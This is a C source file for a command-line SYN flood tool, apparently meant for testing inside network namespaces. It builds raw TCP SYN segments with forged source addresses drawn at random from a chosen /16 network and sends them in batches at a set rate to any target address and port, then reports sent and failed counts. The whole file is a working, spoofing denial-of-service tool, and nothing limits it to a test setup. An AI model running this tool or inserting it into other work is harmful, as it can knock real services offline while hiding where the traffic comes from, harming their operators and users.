/* SPDX-License-Identifier: Apache-2.0 */
/* SYN flood from invented addresses of one /16, at a steady rate. For use inside network namespaces.
 *
 * flood SOURCE_NETWORK TARGET_ADDRESS PORT RATE SECONDS
 * Prints one line of JSON: {"sent": N, "failed": N}.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define BATCH  64
#define SECOND 1000000000ull

struct segment {
	struct iphdr ip;
	struct tcphdr tcp;
};

/* What the TCP checksum covers beside the segment. */
struct pseudo {
	uint32_t source, destination;
	uint8_t zero, protocol;
	uint16_t length;
	struct tcphdr tcp;
};

static struct segment segments[BATCH];
static struct mmsghdr messages[BATCH];
static struct iovec vectors[BATCH];
static uint16_t port; /* network order */
static struct sockaddr_in target = {.sin_family = AF_INET};

static uint64_t now(void)
{
	struct timespec t;

	clock_gettime(CLOCK_MONOTONIC, &t);
	return (uint64_t)t.tv_sec * SECOND + (uint64_t)t.tv_nsec;
}

/* xorshift64 (G. Marsaglia): every SYN another address and port. */
static uint32_t draw(void)
{
	static uint64_t x = 88172645463325252ull;

	x ^= x << 13;
	x ^= x >> 7;
	x ^= x << 17;
	return (uint32_t)(x >> 16);
}

static uint16_t checksum(const void *data, size_t size)
{
	const uint16_t *words = data;
	uint32_t sum = 0;

	for (size_t i = 0; i < size / 2; i++)
		sum += words[i];
	while (sum >> 16)
		sum = (sum & 0xffff) + (sum >> 16);
	return (uint16_t)~sum;
}

static void fill(struct segment *s, uint32_t network)
{
	struct pseudo p = {.destination = target.sin_addr.s_addr, .protocol = IPPROTO_TCP};

	memset(s, 0, sizeof(*s));
	s->ip = (struct iphdr){.version = 4, .ihl = 5, .ttl = 64, .protocol = IPPROTO_TCP};
	s->ip.saddr = htonl((network & 0xffff0000u) | (draw() & 0xffff));
	s->ip.daddr = target.sin_addr.s_addr;
	s->ip.tot_len = htons(sizeof(*s));
	s->tcp.source = htons((uint16_t)(1024 + draw() % 60000));
	s->tcp.dest = port;
	s->tcp.seq = htonl(draw());
	s->tcp.doff = 5;
	s->tcp.syn = 1;
	s->tcp.window = htons(65535);
	p.source = s->ip.saddr;
	p.length = htons(sizeof(s->tcp));
	p.tcp = s->tcp;
	s->tcp.check = checksum(&p, sizeof(p));
}

static void flood(int fd, uint32_t network, double rate, double seconds)
{
	uint64_t start = now(), stop = start + (uint64_t)(seconds * (double)SECOND);
	uint64_t sent = 0, failed = 0, t;

	while ((t = now()) < stop) {
		uint64_t due = (uint64_t)((double)(t - start) / (double)SECOND * rate);

		if (sent + failed >= due) {
			usleep(500);
			continue;
		}
		for (unsigned i = 0; i < BATCH; i++)
			fill(&segments[i], network);
		int n = sendmmsg(fd, messages, BATCH, 0);

		sent += n > 0 ? (uint64_t)n : 0;
		failed += n < BATCH ? (uint64_t)(BATCH - (n > 0 ? n : 0)) : 0;
	}
	printf("{\"sent\": %llu, \"failed\": %llu}\n", (unsigned long long)sent, (unsigned long long)failed);
}

int main(int argc, char **argv)
{
	struct in_addr network;
	int one = 1;
	int fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);

	if (argc != 6 || inet_pton(AF_INET, argv[1], &network) != 1 ||
	    inet_pton(AF_INET, argv[2], &target.sin_addr) != 1) {
		fprintf(stderr, "usage: flood SOURCE_NETWORK TARGET_ADDRESS PORT RATE SECONDS\n");
		return 2;
	}
	if (fd < 0 || setsockopt(fd, IPPROTO_IP, IP_HDRINCL, &one, sizeof(one))) {
		perror("flood: raw socket");
		return 1;
	}
	for (unsigned i = 0; i < BATCH; i++) {
		vectors[i] = (struct iovec){.iov_base = &segments[i], .iov_len = sizeof(segments[i])};
		messages[i].msg_hdr = (struct msghdr){
			.msg_name = &target, .msg_namelen = sizeof(target), .msg_iov = &vectors[i], .msg_iovlen = 1};
	}
	port = htons((uint16_t)atoi(argv[3]));
	flood(fd, ntohl(network.s_addr), atof(argv[4]), atof(argv[5]));
	return 0;
}
